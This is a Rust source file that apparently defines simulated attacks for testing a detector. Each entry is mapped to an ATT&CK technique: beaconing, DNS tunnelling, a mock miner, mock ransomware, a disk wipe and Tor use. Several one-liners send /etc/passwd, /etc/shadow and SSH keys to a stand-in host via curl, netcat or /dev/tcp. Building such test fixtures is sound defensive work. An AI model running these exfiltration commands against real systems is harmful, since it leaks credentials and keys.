//! Ways to command and control, to take data away, and to destroy it.

use super::{Attack, User};

pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "beacon",
        technique: "T1071.001",
        user: User::Alice,
        script: r#"
python3 -c '
import socket, time
for n in range(12):
    s = socket.create_connection(("203.0.113.5", 8000)); s.sendall(b"GET /ping HTTP/1.0\r\n\r\n"); s.recv(100); s.close(); time.sleep(6)'
"#,
    },
    Attack {
        name: "dns-tunnel",
        technique: "T1071.004",
        user: User::Alice,
        script: r#"
python3 -c '
import socket, os, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.01)
def name(n): return b"".join(bytes([len(p)]) + p for p in n.split(b".")) + b"\0"
for n in range(150):
    label = os.urandom(28).hex().encode()
    q = struct.pack(">HHHHHH", n, 256, 1, 0, 0, 0) + name(label[:50] + b"." + label[:40] + b".tunnel.example.net") + struct.pack(">HH", 16, 1)
    s.sendto(q, ("203.0.113.5", 53))
    try: s.recv(500)
    except OSError: pass'
"#,
    },
    Attack {
        name: "upload-curl",
        technique: "T1048.003",
        user: User::WebServer,
        script: r#"
head -c 2000000 /dev/urandom > /var/tmp/dump.sql; curl -s -X POST --data-binary @/var/tmp/dump.sql http://203.0.113.5:8000/upload; curl -s -T /etc/passwd http://203.0.113.5:8000/; rm -f /var/tmp/dump.sql
"#,
    },
    Attack {
        name: "upload-volume",
        technique: "T1041",
        user: User::Alice,
        script: r#"
python3 -c '
import socket
s = socket.create_connection(("203.0.113.5", 8000)); s.sendall(b"POST /upload HTTP/1.0\r\nContent-Length: 157286400\r\n\r\n")
block = bytes(1 << 20)
for n in range(150): s.sendall(block)
s.recv(100)'
"#,
    },
    Attack {
        name: "upload-netcat",
        technique: "T1048",
        user: User::Root,
        script: r#"
tar czf - /etc/ssh /etc/passwd 2>/dev/null | nc -w 3 203.0.113.5 4444
"#,
    },
    Attack {
        name: "upload-dev-tcp",
        technique: "T1048",
        user: User::Alice,
        script: r#"
bash -c 'cat /etc/passwd > /dev/tcp/203.0.113.5/4444'
"#,
    },
    Attack {
        name: "miner",
        technique: "T1496",
        user: User::WebServer,
        script: r#"
cp /bin/sleep /tmp/xmrig; /tmp/xmrig 1 -o stratum+tcp://pool.example.net:3333 -u wallet --donate-level 1
"#,
    },
    Attack {
        name: "ransom",
        technique: "T1486",
        user: User::Root,
        script: r#"
mkdir -p /srv/data; for n in 1 2 3 4 5; do echo $n > /srv/data/$n.doc; openssl enc -aes-256-cbc -pbkdf2 -k key -in /srv/data/$n.doc -out /srv/data/$n.doc.locked; rm /srv/data/$n.doc; done; rm -rf /srv/data
"#,
    },
    Attack {
        name: "disk-wiped",
        technique: "T1561.001",
        user: User::Root,
        script: r#"
truncate -s 1M /run/disk.img; dd if=/dev/zero of=/run/disk.img bs=64k count=16 2>/dev/null; shred -n 1 -z /run/disk.img; dd if=/dev/zero of=/dev/loop-none bs=512 count=1; rm -f /run/disk.img
"#,
    },
    Attack {
        name: "tor-used",
        technique: "T1090.003",
        user: User::Alice,
        script: r#"
curl -s -m 2 --socks5-hostname 203.0.113.5:9050 http://abcdefghijklmnop.onion/
"#,
    },
    Attack {
        name: "data-compressed-secret",
        technique: "T1560.001",
        user: User::Root,
        script: r#"
tar czf /tmp/b.tgz /etc/shadow /etc/ssh 2>/dev/null; openssl enc -aes-256-cbc -pbkdf2 -k x -in /tmp/b.tgz -out /tmp/b.enc; curl -s -F 'f=@/tmp/b.enc' http://203.0.113.5:8000/; rm -f /tmp/b.*
"#,
    },
];
